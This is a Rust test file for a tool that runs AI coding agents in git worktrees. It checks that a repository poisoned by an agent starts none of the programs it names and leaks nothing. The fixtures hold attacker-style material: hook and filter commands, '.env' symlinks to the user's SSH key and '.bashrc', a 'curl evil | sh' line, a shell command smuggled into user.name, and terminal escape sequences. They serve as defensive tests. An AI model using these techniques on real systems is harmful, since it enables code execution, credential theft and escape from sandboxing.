//! The git boundary, with real git and the host runtime (no engine needed):
//! a repository whose config, attributes and hooks name programs makes none
//! of our git calls start one (`worktree list` and its forms, `list`, a
//! `-w` start's `worktree add` and checkout, `rm --worktree`); `worktree.copy`
//! never follows a symlink; what a repository names is shown printable.

use crate::common;

use crate::common::{git, stderr, stdout, Env};
use crate::docker_support::{fake_agent_bin, path_with};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// A state home using the host runtime with the fake agent.
struct Host {
    env: Env,
    bin: PathBuf,
}

impl Host {
    fn new(extra: &str) -> Host {
        let env = Env::new();
        env.write_config(&format!(
            "[global]\nruntime = \"host\"\nstop_timeout = \"3s\"\n\n{extra}"
        ));
        let bin = fake_agent_bin(env.projects.path());
        Host { env, bin }
    }

    fn run(&self, dir: &Path, args: &[&str]) -> Output {
        self.env
            .cmd()
            .current_dir(dir)
            .env("PATH", path_with(&self.bin))
            .env("FAKE_AGENT_STAY", "1")
            .args(args)
            .output()
            .unwrap()
    }

    fn ok(&self, dir: &Path, args: &[&str]) -> String {
        let out = self.run(dir, args);
        assert!(
            out.status.success(),
            "ai-sessctl {args:?}: {}{}",
            stdout(&out),
            stderr(&out)
        );
        stdout(&out)
    }

    /// `start -w NAME` detached in `repo`, on the host runtime.
    fn try_start_w(&self, repo: &Path, name: &str) -> Output {
        self.run(
            repo,
            &[
                "start",
                "--mode",
                "claude",
                "--detach",
                "--runtime",
                "host",
                "-w",
                name,
            ],
        )
    }

    /// [`Host::try_start_w`], which must succeed; the instance id.
    fn start_w(&self, repo: &Path, name: &str) -> String {
        let out = self.try_start_w(repo, name);
        assert!(out.status.success(), "start -w {name}: {}", stderr(&out));
        format!(
            "{}-{name}-claude",
            repo.file_name().unwrap().to_string_lossy()
        )
    }
}

impl Drop for Host {
    /// Ends the fake agents a failed test left running.
    fn drop(&mut self) {
        let _ = self
            .env
            .cmd()
            .current_dir(self.env.projects.path())
            .args(["rm", "--all", "--force"])
            .output();
    }
}

/// A repository with one commit: README, files for each filter driver and
/// a committed `.gitattributes` (smudge at checkout).
fn repo(env: &Env, name: &str) -> PathBuf {
    let repo = env.project(name);
    git(&repo, &["init", "-q", "-b", "main"]);
    for f in ["README", "a.x", "b.p", "c.c"] {
        std::fs::write(repo.join(f), format!("{f}\n")).unwrap();
    }
    std::fs::write(
        repo.join(".gitattributes"),
        "c.c filter=c diff=tc merge=mc\n",
    )
    .unwrap();
    git(&repo, &["add", "."]);
    git(&repo, &["commit", "-q", "-m", "init"]);
    repo
}

const HOOKS: &[&str] = &[
    "applypatch-msg",
    "pre-applypatch",
    "post-applypatch",
    "pre-commit",
    "pre-merge-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "pre-rebase",
    "post-checkout",
    "post-merge",
    "pre-push",
    "pre-receive",
    "update",
    "proc-receive",
    "post-receive",
    "post-update",
    "reference-transaction",
    "push-to-checkout",
    "pre-auto-gc",
    "post-rewrite",
    "sendemail-validate",
    "fsmonitor-watchman",
    "post-index-change",
];

/// Config keys that name a command, each set to `touch <canary>/<key>`.
const KEYS: &[&str] = &[
    "filter.x.clean",
    "filter.x.smudge",
    "filter.p.process",
    "filter.c.clean",
    "filter.c.smudge",
    "filter.all.clean",
    "filter.all.smudge",
    "diff.tx.textconv",
    "diff.tx.command",
    "diff.tc.textconv",
    "diff.external",
    "merge.mx.driver",
    "merge.mc.driver",
    "core.fsmonitor",
    "core.pager",
    "core.editor",
    "sequence.editor",
    "core.sshCommand",
    "core.askPass",
    "core.gitProxy",
    "core.alternateRefsCommand",
    "credential.helper",
    "gpg.program",
    "gpg.ssh.program",
    "gpg.ssh.defaultKeyCommand",
    "pager.status",
    "pager.worktree",
    "alias.status",
];

/// What an agent in the box can write into `repo`'s `.git`: every command
/// key, attributes naming the drivers, and every hook, in `.git/hooks` or
/// (`hooks_path`) in a directory `core.hooksPath` names.
fn poison(repo: &Path, canary: &Path, hooks_path: bool) {
    let config = repo.join(".git/config");
    let mut text = std::fs::read_to_string(&config).unwrap();
    for key in KEYS {
        let (section, rest) = key.split_once('.').unwrap();
        let (sub, name) = match rest.rsplit_once('.') {
            Some((s, n)) => (format!(" \"{s}\""), n),
            None => (String::new(), rest),
        };
        text.push_str(&format!(
            "[{section}{sub}]\n\t{name} = \"touch {}/{key}; cat\"\n",
            canary.display()
        ));
    }
    text.push_str("[filter \"all\"]\n\trequired = false\n");
    let hooks = if hooks_path {
        let d = repo.join(".evil-hooks");
        text.push_str(&format!("[core]\n\thooksPath = {}\n", d.display()));
        d
    } else {
        repo.join(".git/hooks")
    };
    std::fs::write(&config, text).unwrap();
    std::fs::create_dir_all(repo.join(".git/info")).unwrap();
    std::fs::write(
        repo.join(".git/info/attributes"),
        "* diff=tx merge=mx\nREADME filter=all\na.x filter=x\nb.p filter=p\n",
    )
    .unwrap();
    std::fs::create_dir_all(&hooks).unwrap();
    for h in HOOKS {
        let f = hooks.join(h);
        std::fs::write(
            &f,
            format!("#!/bin/sh\ntouch {}/hook-{h}\n", canary.display()),
        )
        .unwrap();
        std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
}

fn fired(canary: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(canary)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

/// Every git call of ours on a poisoned repository: a `-w` start (worktree
/// add and its checkout), `worktree list` and its forms, `list`, `show`,
/// `rm --worktree`, a second `-w` start (reuse), and `rm --all --worktree`.
fn nothing_runs(hooks_path: bool) {
    let host = Host::new("[worktree]\ncopy = [\"a.x\"]\n");
    let name = host.env.unique(if hooks_path { "gp" } else { "gh" });
    let repo = repo(&host.env, &name);
    let canary = host.env.projects.path().join(format!("canary-{name}"));
    std::fs::create_dir_all(&canary).unwrap();
    poison(&repo, &canary, hooks_path);

    let one = host.start_w(&repo, "one");
    let two = host.start_w(&repo, "two");
    let wt = repo.join(".claude/worktrees").join("one");
    assert!(wt.join("c.c").exists(), "checked out");
    // The agent changes files, so status has content to clean-filter.
    for f in ["a.x", "b.p", "c.c", "README"] {
        std::fs::write(wt.join(f), "changed\n").unwrap();
    }
    std::fs::write(wt.join("new.x"), "new\n").unwrap();
    let listed = host.ok(&repo, &["worktree", "list"]);
    assert!(listed.contains("uncommitted changes"), "{listed}");
    host.ok(&repo, &["worktree", "list", "--all"]);
    host.ok(&repo, &["worktree", "list", "--all", "--json"]);
    host.ok(&repo, &["worktree", "list", "--quiet"]);
    host.ok(&repo, &["list"]);
    host.ok(&repo, &["show", &one]);
    host.start_w(&repo, "one");
    host.ok(&repo, &["rm", "--force", "--worktree", &one]);
    assert!(!wt.exists(), "removed");
    host.ok(&repo, &["rm", "--force", "--worktree", &two]);
    assert_eq!(
        fired(&canary),
        Vec::<String>::new(),
        "programs the repository named ran"
    );

    // The scene is live: plain git on the same repository runs them.
    let control = repo.with_file_name(format!("{name}.control"));
    let out = Command::new("git")
        .arg("-C")
        .arg(&repo)
        .args(["worktree", "add", "-q", "-b", "ctl"])
        .arg(&control)
        .output()
        .unwrap();
    let _ = out;
    let seen = fired(&canary);
    assert!(
        seen.iter().any(|s| s.starts_with("filter."))
            && seen.iter().any(|s| s == "hook-post-checkout"),
        "the poison is not live: {seen:?}"
    );
}

#[test]
fn a_hostile_config_attributes_and_hooks_start_nothing() {
    nothing_runs(false);
}

#[test]
fn a_hooks_path_the_agent_set_starts_nothing() {
    nothing_runs(true);
}

/// A temp HOME with a fake key and a fake `.bashrc`.
fn fake_home(env: &Env) -> PathBuf {
    let home = env.projects.path().join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_ed25519"), "PRIVATE KEY\n").unwrap();
    std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
    home
}

/// The line that names a refused `worktree.copy` entry.
fn refused_line(out: &str) -> &str {
    out.lines()
        .find(|l| l.contains("worktree.copy: .env not copied"))
        .unwrap_or_else(|| panic!("no line names the refused .env:\n{out}"))
}

#[test]
fn copy_does_not_read_a_symlinked_env_into_the_worktree() {
    let host = Host::new("[worktree]\ncopy = [\".env\", \"ok.txt\"]\n");
    let home = fake_home(&host.env);
    let name = host.env.unique("cpa");
    let repo = repo(&host.env, &name);
    // The agent, in the project, makes `.env` a link to the user's key.
    std::os::unix::fs::symlink(home.join(".ssh/id_ed25519"), repo.join(".env")).unwrap();
    std::fs::write(repo.join("ok.txt"), "copied\n").unwrap();
    let out = host.try_start_w(&repo, "x");
    assert!(out.status.success(), "the start goes on: {}", stderr(&out));
    let wt = repo.join(".claude/worktrees").join("x");
    assert!(
        std::fs::symlink_metadata(wt.join(".env")).is_err(),
        "nothing made at .env in the worktree"
    );
    assert_eq!(
        std::fs::read_to_string(wt.join("ok.txt")).unwrap(),
        "copied\n"
    );
    refused_line(&stderr(&out));
    host.ok(
        &repo,
        &["rm", "--force", "--worktree", &format!("{name}-x-claude")],
    );
}

#[test]
fn copy_does_not_write_through_a_committed_symlink() {
    let host = Host::new("[worktree]\ncopy = [\".env\"]\n");
    let home = fake_home(&host.env);
    let name = host.env.unique("cpb");
    let repo = repo(&host.env, &name);
    // The agent commits `.env -> ~/.bashrc` on a branch …
    git(&repo, &["checkout", "-q", "-b", "evil"]);
    std::os::unix::fs::symlink(home.join(".bashrc"), repo.join(".env")).unwrap();
    git(&repo, &["add", ".env"]);
    git(&repo, &["commit", "-q", "-m", "env"]);
    git(&repo, &["checkout", "-q", "main"]);
    // … and leaves a payload as the project's own `.env`.
    std::fs::write(repo.join(".env"), "curl evil | sh\n").unwrap();
    let out = host.try_start_w(&repo, "evil");
    assert!(out.status.success(), "the start goes on: {}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# rc\n"
    );
    refused_line(&stderr(&out));
    host.ok(
        &repo,
        &[
            "rm",
            "--force",
            "--worktree",
            &format!("{name}-evil-claude"),
        ],
    );
}

#[test]
fn copy_does_not_truncate_the_file_a_committed_symlink_names() {
    let host = Host::new("[worktree]\ncopy = [\".env\"]\n");
    let home = fake_home(&host.env);
    let name = host.env.unique("cpc");
    let repo = repo(&host.env, &name);
    // A cloned repository ships `.env -> ~/.ssh/id_ed25519`.
    std::os::unix::fs::symlink(home.join(".ssh/id_ed25519"), repo.join(".env")).unwrap();
    git(&repo, &["add", ".env"]);
    git(&repo, &["commit", "-q", "-m", "env"]);
    let out = host.try_start_w(&repo, "y");
    assert!(out.status.success(), "the start goes on: {}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(home.join(".ssh/id_ed25519")).unwrap(),
        "PRIVATE KEY\n"
    );
    refused_line(&stderr(&out));
    host.ok(
        &repo,
        &["rm", "--force", "--worktree", &format!("{name}-y-claude")],
    );
}

/// Nothing in `out` can drive a terminal.
fn assert_inert(what: &str, out: &str) {
    for bad in ['\x1b', '\x07', '\u{9b}', '\u{202e}'] {
        assert!(!out.contains(bad), "{what} printed {bad:?} raw:\n{out}");
    }
}

#[test]
fn branch_names_and_planted_worktree_paths_are_shown_printable() {
    let host = Host::new("");
    let name = host.env.unique("pr");
    let repo = repo(&host.env, &name);
    let id = host.start_w(&repo, "one");
    let wt = repo.join(".claude/worktrees").join("one");
    // The agent switches its worktree to a branch named with a C1 CSI and
    // a right-to-left override; the user starts `-w one` again.
    git(&wt, &["checkout", "-q", "-b", "x\u{9b}2J\u{202e}txt"]);
    host.start_w(&repo, "one");
    // And plants a worktree record whose path holds an escape sequence.
    let planted = repo.join(".git/worktrees/evil");
    std::fs::create_dir_all(&planted).unwrap();
    let base = repo.join(".claude/worktrees");
    std::fs::write(
        planted.join("gitdir"),
        format!("{}/ev\x1b]0;PWNED\x07\u{9b}il/.git\n", base.display()),
    )
    .unwrap();
    std::fs::write(planted.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(planted.join("commondir"), "../..\n").unwrap();

    let table = host.ok(&repo, &["list"]);
    assert_inert("list", &table);
    assert!(table.contains("x\\u{9b}2J\\u{202e}txt"), "{table}");
    let shown = host.ok(&repo, &["show", &id]);
    assert_inert("show", &shown);
    assert!(shown.contains("x\\u{9b}2J\\u{202e}txt"), "{shown}");
    let wts = host.ok(&repo, &["worktree", "list"]);
    assert_inert("worktree list", &wts);
    assert!(wts.contains("ev\\x1b]0;PWNED\\x07\\u{9b}il"), "{wts}");
    let names = host.ok(&repo, &["worktree", "list", "--quiet"]);
    assert_inert("worktree list --quiet", &names);
    assert_eq!(names.trim(), "one", "only names -w takes");
    for args in [
        &["worktree", "list", "--json"][..],
        &["worktree", "list", "--all", "--json"],
        &["list", "--json"],
        &["show", &id, "--json"],
    ] {
        let json = host.ok(&repo, args);
        assert_inert(&args.join(" "), &json);
        // Still the same strings once parsed.
        let v: serde_json::Value = serde_json::from_str(&json).unwrap();
        let text = v.to_string();
        assert!(
            text.contains('\u{9b}'),
            "{args:?}: the JSON must still carry the real name: {json}"
        );
    }
    host.ok(&repo, &["rm", "--force", &id]);
}

/// Another repository of the user's, which no box may get mounted.
fn other_repo(env: &Env, name: &str) -> PathBuf {
    let other = env.project(&format!("{name}-other"));
    git(&other, &["init", "-q", "-b", "main"]);
    git(&other, &["commit", "-q", "--allow-empty", "-m", "o"]);
    other
}

/// A `-w` start that must be refused with the reason, leaving `other`'s
/// `.git` without a worktree of ours.
fn refused_outside(host: &Host, repo: &Path, other: &Path, wt: &str) {
    let out = host.try_start_w(repo, wt);
    assert!(!out.status.success(), "started: {}", stdout(&out));
    let err = stderr(&out);
    assert!(err.contains("outside the repository"), "{err}");
    assert!(err.contains(&format!("{}/.git", other.display())), "{err}");
    assert!(
        !other.join(".git/worktrees").exists(),
        "a worktree was made in the other repository"
    );
    let id = format!(
        "{}-{wt}-claude",
        repo.file_name().unwrap().to_string_lossy()
    );
    assert!(host.env.instance(&id).is_null(), "{id} was made");
}

#[test]
fn a_planted_git_file_or_commondir_does_not_get_another_repository_mounted() {
    let host = Host::new("");
    let name = host.env.unique("gd");
    let repo = repo(&host.env, &name);
    let other = other_repo(&host.env, &name);
    let one = host.start_w(&repo, "one");
    // The agent (its worktree mounts the repository's .git read-write)
    // points the repository's common dir at the other repository.
    std::fs::write(
        repo.join(".git/commondir"),
        format!("{}/.git\n", other.display()),
    )
    .unwrap();
    refused_outside(&host, &repo, &other, "two");
    std::fs::remove_file(repo.join(".git/commondir")).unwrap();
    // An agent of the repository itself replaces its .git by a file.
    std::fs::rename(
        repo.join(".git"),
        repo.with_file_name(format!("{name}.git-away")),
    )
    .unwrap();
    std::fs::write(
        repo.join(".git"),
        format!("gitdir: {}/.git\n", other.display()),
    )
    .unwrap();
    refused_outside(&host, &repo, &other, "three");
    std::fs::remove_file(repo.join(".git")).unwrap();
    std::fs::rename(
        repo.with_file_name(format!("{name}.git-away")),
        repo.join(".git"),
    )
    .unwrap();
    host.ok(&repo, &["rm", "--force", "--worktree", &one]);

    // A tarball that ships such a .git file, at its first start.
    let shipped = host.env.project(&format!("{name}-tar"));
    std::fs::write(
        shipped.join(".git"),
        format!("gitdir: {}/.git\n", other.display()),
    )
    .unwrap();
    refused_outside(&host, &shipped, &other, "t");
}

#[test]
fn two_repositories_with_one_basename_do_not_share_worktrees() {
    let dir = tempfile::tempdir().unwrap();
    let host = Host::new(&format!("[worktree]\ndir = \"{}\"\n", dir.path().display()));
    let name = host.env.unique("same");
    let a = host.env.project(&format!("a/{name}"));
    let b = host.env.project(&format!("b/{name}"));
    for r in [&a, &b] {
        git(r, &["init", "-q", "-b", "main"]);
        std::fs::write(r.join("who"), r.to_string_lossy().as_bytes()).unwrap();
        git(r, &["add", "who"]);
        git(r, &["commit", "-q", "-m", "init"]);
    }
    host.start_w(&a, "feat");
    host.start_w(&b, "feat");
    let reg = host.env.registry();
    let mut seen: Vec<(String, String)> = reg["instances"]
        .as_object()
        .unwrap()
        .values()
        .map(|i| {
            (
                i["worktree"]["repo"].as_str().unwrap().to_owned(),
                i["project_path"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    seen.sort();
    assert_eq!(seen.len(), 2, "one instance each: {reg:#}");
    assert_ne!(seen[0].1, seen[1].1, "one worktree each: {seen:?}");
    for (repo, wt) in &seen {
        let who = std::fs::read_to_string(Path::new(wt).join("who")).unwrap();
        assert_eq!(&who, repo, "the worktree at {wt} is of {who}, not {repo}");
    }
    for id in reg["instances"].as_object().unwrap().keys() {
        host.ok(&a, &["rm", "--force", "--worktree", id]);
    }
}

#[test]
fn concurrent_starts_of_one_worktree_join() {
    let host = Host::new("");
    let name = host.env.unique("cc");
    let repo = repo(&host.env, &name);
    let kids: Vec<_> = (0..4)
        .map(|_| {
            host.env
                .cmd()
                .current_dir(&repo)
                .env("PATH", path_with(&host.bin))
                .env("FAKE_AGENT_STAY", "1")
                .args([
                    "start",
                    "--mode",
                    "claude",
                    "--detach",
                    "--runtime",
                    "host",
                    "-w",
                    "same",
                ])
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    for k in kids {
        let out = k.wait_with_output().unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
        assert!(!stderr(&out).contains("fatal:"), "{}", stderr(&out));
    }
    let listed = git(&repo, &["worktree", "list", "--porcelain"]);
    assert_eq!(listed.matches("worktree ").count(), 2, "{listed}");
    host.ok(
        &repo,
        &[
            "rm",
            "--force",
            "--worktree",
            &format!("{name}-same-claude"),
        ],
    );
}

/// A repository of 20,000 committed files: its checkout and removal take
/// long enough for a kill to land in the middle.
const BIG: usize = 20_000;

fn big_repo(repo: &Path) {
    git(repo, &["init", "-q", "-b", "main"]);
    for i in 0..BIG {
        std::fs::write(repo.join(format!("f{i}")), "x\n").unwrap();
    }
    git(repo, &["add", "."]);
    git(repo, &["commit", "-q", "-m", "many"]);
}

/// Files in the worktree, `.git` aside.
fn count_files(dir: &Path) -> usize {
    std::fs::read_dir(dir)
        .map(|d| {
            d.filter(|e| e.as_ref().unwrap().file_name() != ".git")
                .count()
        })
        .unwrap_or(0)
}

#[test]
fn a_start_killed_mid_checkout_leaves_no_half_worktree_to_reuse() {
    let host = Host::new("");
    let name = host.env.unique("half");
    let repo = host.env.project(&name);
    big_repo(&repo);
    let base = repo.join(".claude/worktrees");
    // Killed (SIGKILL to its whole group, as a closed terminal would end
    // it) once git has made the worktree's .git and is checking out.
    let mut interrupted = None;
    for attempt in 0..5 {
        let wt = format!("w{attempt}");
        let mut child = host
            .env
            .cmd()
            .current_dir(&repo)
            .env("PATH", path_with(&host.bin))
            .env("FAKE_AGENT_STAY", "1")
            .args([
                "start",
                "--mode",
                "claude",
                "--detach",
                "--runtime",
                "host",
                "-w",
                &wt,
            ])
            .process_group(0)
            .spawn()
            .unwrap();
        let dot_git = base.join(&wt).join(".git");
        while !dot_git.exists() && child.try_wait().unwrap().is_none() {
            std::thread::yield_now();
        }
        // SAFETY: our own child's process group.
        unsafe { libc::kill(-(child.id() as i32), libc::SIGKILL) };
        let _ = child.wait();
        if count_files(&base.join(&wt)) < BIG {
            interrupted = Some(wt);
            break;
        }
        host.ok(
            &repo,
            &[
                "rm",
                "--force",
                "--worktree",
                &format!("{name}-{wt}-claude"),
            ],
        );
    }
    let wt = interrupted.expect("no start was caught mid-checkout in 5 tries");
    let out = host.try_start_w(&repo, &wt);
    if out.status.success() {
        assert_eq!(
            count_files(&base.join(&wt)),
            BIG,
            "the worktree was made again whole"
        );
        assert_eq!(git(&base.join(&wt), &["status", "--porcelain"]), "");
        host.ok(
            &repo,
            &[
                "rm",
                "--force",
                "--worktree",
                &format!("{name}-{wt}-claude"),
            ],
        );
    } else {
        assert!(stderr(&out).contains("interrupted"), "{}", stderr(&out));
    }
}

#[test]
fn a_killed_worktree_removal_can_be_retried() {
    let host = Host::new("");
    let name = host.env.unique("rmk");
    let repo = repo(&host.env, &name);
    let base = repo.join(".claude/worktrees");
    let one = host.start_w(&repo, "one");
    let two = host.start_w(&repo, "two");
    host.ok(&repo, &["stop", &one]);
    host.ok(&repo, &["stop", &two]);
    // `git worktree remove` killed after deleting the directory, before
    // its record in .git/worktrees: `rm --worktree` again finishes it.
    std::fs::remove_dir_all(base.join("one")).unwrap();
    host.ok(&repo, &["rm", "--worktree", &one]);
    let listed = git(&repo, &["worktree", "list", "--porcelain"]);
    assert!(!listed.contains("/one\n"), "still registered: {listed}");
    // Killed halfway through the directory (its .git file gone first):
    // the retry removes the rest.
    std::fs::remove_file(base.join("two/.git")).unwrap();
    host.ok(&repo, &["rm", "--force", "--worktree", &two]);
    assert!(!base.join("two").exists());
    // And `-w one` makes it anew.
    let again = host.start_w(&repo, "one");
    assert_eq!(
        count_files(&base.join("one")),
        5,
        "README a.x b.p c.c .gitattributes"
    );
    host.ok(&repo, &["rm", "--force", "--worktree", &again]);
}

#[test]
fn a_core_worktree_the_agent_set_does_not_make_home_the_repository() {
    let host = Host::new("[worktree]\ncopy = [\".env\"]\n");
    let name = host.env.unique("cw");
    let repo = repo(&host.env, &name);
    // The agent points the repository's work tree at a directory above it
    // (the user's home, say) holding a secret that copy would take.
    let above = host.env.projects.path().canonicalize().unwrap();
    std::fs::write(above.join(".env"), "HOME SECRET\n").unwrap();
    let cfg = repo.join(".git/config");
    let text = std::fs::read_to_string(&cfg).unwrap();
    std::fs::write(
        &cfg,
        format!("{text}[core]\n\tworktree = {}\n", above.display()),
    )
    .unwrap();
    let out = host.try_start_w(&repo, "x");
    let leaked = walk_for(&above, "HOME SECRET");
    assert!(leaked.is_empty(), "the secret was copied to {leaked:?}");
    assert!(!out.status.success(), "started: {}", stdout(&out));
    assert!(stderr(&out).contains("core.worktree"), "{}", stderr(&out));
}

/// Files under `dir` (not `dir/.env` itself) holding `needle`.
fn walk_for(dir: &Path, needle: &str) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let p = e.path();
            let t = e.file_type().unwrap();
            if t.is_dir() && p.file_name().is_some_and(|n| n != ".git") {
                stack.push(p);
            } else if t.is_file()
                && p != dir.join(".env")
                && std::fs::read_to_string(&p).is_ok_and(|s| s.contains(needle))
            {
                out.push(p);
            }
        }
    }
    out
}

#[test]
fn the_users_global_ignore_file_still_counts_in_worktree_status() {
    let host = Host::new("");
    let home = fake_home(&host.env);
    std::fs::write(home.join(".gitignore_global"), "*.swp\n").unwrap();
    std::fs::write(
        home.join(".gitconfig"),
        "[core]\n\texcludesFile = ~/.gitignore_global\n",
    )
    .unwrap();
    let name = host.env.unique("ign");
    let repo = repo(&host.env, &name);
    let run = |args: &[&str]| {
        let out = host
            .env
            .cmd()
            .current_dir(&repo)
            .env("HOME", &home)
            .env("PATH", path_with(&host.bin))
            .env("FAKE_AGENT_STAY", "1")
            .args(args)
            .output()
            .unwrap();
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        stdout(&out)
    };
    run(&[
        "start",
        "--mode",
        "claude",
        "--detach",
        "--runtime",
        "host",
        "-w",
        "one",
    ]);
    let wt = repo.join(".claude/worktrees").join("one");
    std::fs::write(wt.join("notes.swp"), "x").unwrap();
    let listed = run(&["worktree", "list"]);
    assert!(listed.contains("clean"), "{listed}");
    run(&["rm", "--force", "--worktree", &format!("{name}-one-claude")]);
}

#[test]
fn a_fifo_or_symlink_in_place_of_a_copied_file_neither_hangs_nor_reads_through_worktree_list() {
    let host = Host::new("[worktree]\ncopy = [\".env\", \"key\"]\n");
    let home = fake_home(&host.env);
    let name = host.env.unique("fifo");
    let repo = repo(&host.env, &name);
    std::fs::write(repo.join(".env"), "A=1\n").unwrap();
    std::fs::copy(home.join(".ssh/id_ed25519"), repo.join("key")).unwrap();
    let id = host.start_w(&repo, "one");
    let wt = repo.join(".claude/worktrees").join("one");
    // An agent of the repository swaps its `.env` for a FIFO; the
    // worktree's agent swaps `key` for a link to the user's key (equal
    // content: it would pass for an unchanged copy).
    std::fs::remove_file(repo.join(".env")).unwrap();
    nix::unistd::mkfifo(
        &repo.join(".env"),
        nix::sys::stat::Mode::from_bits_truncate(0o600),
    )
    .unwrap();
    std::fs::remove_file(wt.join("key")).unwrap();
    std::os::unix::fs::symlink(home.join(".ssh/id_ed25519"), wt.join("key")).unwrap();
    let mut child = host
        .env
        .cmd()
        .current_dir(&repo)
        .args(["worktree", "list"])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let ended = common::wait_until(std::time::Duration::from_secs(60), || {
        child.try_wait().unwrap().is_some()
    });
    if !ended {
        let _ = child.kill();
    }
    assert!(ended, "worktree list hangs on a FIFO in the repository");
    let out = child.wait_with_output().unwrap();
    assert!(
        stdout(&out).contains("uncommitted changes"),
        "{}",
        stdout(&out)
    );
    host.ok(&repo, &["rm", "--force", "--worktree", &id]);
}

#[test]
fn a_submodule_is_a_repository_of_its_own_for_worktrees() {
    let host = Host::new("");
    let name = host.env.unique("sm");
    let lib = repo(&host.env, &format!("{name}-lib"));
    let sup = repo(&host.env, &format!("{name}-super"));
    git(
        &sup,
        &[
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "add",
            "-q",
            lib.to_str().unwrap(),
            "sub",
        ],
    );
    let sub = sup.join("sub");
    assert!(sub.join(".git").is_file(), "a submodule's .git is a file");
    let out = host.try_start_w(&sub, "x");
    assert!(out.status.success(), "{}", stderr(&out));
    host.ok(&sub, &["rm", "--force", "--worktree", "sub-x-claude"]);
}

#[test]
fn an_rm_killed_after_the_instance_went_can_be_retried() {
    let host = Host::new("");
    let name = host.env.unique("rmr");
    let repo = host.env.project(&name);
    big_repo(&repo);
    let base = repo.join(".claude/worktrees");
    // Killed once its instance is gone, while git deletes the worktree.
    let mut caught = None;
    for attempt in 0..5 {
        let wt = format!("w{attempt}");
        let id = host.start_w(&repo, &wt);
        let mut child = host
            .env
            .cmd()
            .current_dir(&repo)
            .args(["rm", "--force", "--worktree", &id])
            .process_group(0)
            .spawn()
            .unwrap();
        while !host.env.instance(&id).is_null() && child.try_wait().unwrap().is_none() {
            std::thread::yield_now();
        }
        // SAFETY: our own child's process group.
        unsafe { libc::kill(-(child.id() as i32), libc::SIGKILL) };
        let _ = child.wait();
        if base.join(&wt).exists() {
            caught = Some((wt, id));
            break;
        }
    }
    let (wt, id) = caught.expect("no rm was caught mid-removal in 5 tries");
    assert!(host.env.instance(&id).is_null(), "the instance went first");
    host.ok(&repo, &["rm", "--force", "--worktree", &id]);
    assert!(!base.join(&wt).exists(), "the retry removed the worktree");
    let listed = git(&repo, &["worktree", "list", "--porcelain"]);
    assert!(!listed.contains(&format!("/{wt}\n")), "{listed}");
}

/// The agent plants, in the `.git` it can write, the reflog of the branch
/// the next `-w x` makes as a link to the user's `~/.bashrc`, and a
/// `user.name` that is a shell command: `worktree add -b worktree-x` would
/// append `… x; touch ~/pwned; echo <e> …` to it (the next bash runs it).
/// Under Landlock our git may write only in the git dir and beside the
/// worktree, so the append is refused; the ident is ours in any case.
#[test]
fn worktree_add_does_not_append_a_reflog_through_a_planted_link() {
    let host = Host::new("");
    let home = fake_home(&host.env);
    let name = host.env.unique("rl");
    let repo = repo(&host.env, &name);
    let logs = repo.join(".git/logs/refs/heads/ai");
    std::fs::create_dir_all(&logs).unwrap();
    std::os::unix::fs::symlink(home.join(".bashrc"), logs.join("x")).unwrap();
    let payload = format!("x; touch {}; echo", home.join("pwned").display());
    git(&repo, &["config", "user.name", &payload]);
    let out = host.try_start_w(&repo, "x");
    let rc = std::fs::read_to_string(home.join(".bashrc")).unwrap();
    assert!(
        !rc.contains("pwned"),
        "the agent's ident reached ~/.bashrc: {rc}"
    );
    if ai_sessions::core::untrusted::git::confined() {
        assert_eq!(rc, "# rc\n", "git appended to ~/.bashrc through a link");
    }
    if out.status.success() {
        host.ok(
            &repo,
            &["rm", "--force", "--worktree", &format!("{name}-x-claude")],
        );
    }
}

/// The agent makes `.env` a sparse file of a terabyte (no disk used): the
/// next `-w` start would write it all to the host's disk. Refused, named
/// in one line; the start goes on.
#[test]
fn copy_does_not_fill_the_disk_from_a_sparse_file() {
    let host = Host::new("[worktree]\ncopy = [\".env\"]\n");
    let name = host.env.unique("cps");
    let repo = repo(&host.env, &name);
    let f = std::fs::File::create(repo.join(".env")).unwrap();
    f.set_len(1 << 40).unwrap();
    drop(f);
    let out = host.try_start_w(&repo, "s");
    assert!(out.status.success(), "the start goes on: {}", stderr(&out));
    let wt = repo.join(".claude/worktrees").join("s");
    assert!(
        std::fs::symlink_metadata(wt.join(".env")).is_err(),
        "nothing made at .env in the worktree"
    );
    assert!(refused_line(&stderr(&out)).contains("sparse"));
    host.ok(
        &repo,
        &["rm", "--force", "--worktree", &format!("{name}-s-claude")],
    );
}

/// `args` in `dir`, which must end (the limit only catches a hang).
fn finishes(host: &Host, dir: &Path, args: &[&str]) -> Output {
    let mut child = host
        .env
        .cmd()
        .current_dir(dir)
        .env("PATH", path_with(&host.bin))
        .env("FAKE_AGENT_STAY", "1")
        .args(args)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let t = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if t.elapsed() > std::time::Duration::from_secs(120) {
            let _ = child.kill();
            let _ = child.wait();
            panic!("ai-sessctl {args:?} hangs");
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    child.wait_with_output().unwrap()
}

/// The agent makes its `.git/config` include a FIFO it made in `.git`
/// (with nobody writing it, or held open by the box and never written):
/// git's read of the config waits forever. `worktree list` ends, and a
